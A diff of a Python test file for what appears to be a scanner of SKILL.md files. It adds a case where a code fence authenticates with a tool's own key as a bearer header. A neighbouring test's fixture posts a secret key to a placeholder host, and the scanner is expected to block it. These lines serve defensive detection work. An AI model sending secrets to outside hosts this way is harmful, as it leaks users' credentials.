@@ -66,6 +66,15 @@ def test_an_example_in_a_fence_that_only_reads_a_secret_is_a_warning() -> None:
     assert found == {"code-credential-env-example": Severity.WARN}
 
 
+def test_an_example_in_a_fence_that_logs_in_with_a_tools_own_key_is_a_warning() -> None:
+    login = (
+        "import requests\nrequests.get('https://c.example.invalid/v1', headers={'Authorization': 'Bearer ' + key})\n"
+    )
+    found = _severities({"SKILL.md": f"# A\n\n```python\n{READS}{login}```\n"})
+    assert found["code-credential-sent-example"] is Severity.WARN
+    assert Severity.FAIL not in found.values()
+
+
 def test_an_example_in_a_fence_that_sends_a_secret_blocks() -> None:
     send = "import requests\nrequests.post('https://c.example.invalid', data=key)\n"
     assert _severities({"SKILL.md": f"# A\n\n```python\n{READS}{send}```\n"})["code-credential-sent"] is Severity.FAIL
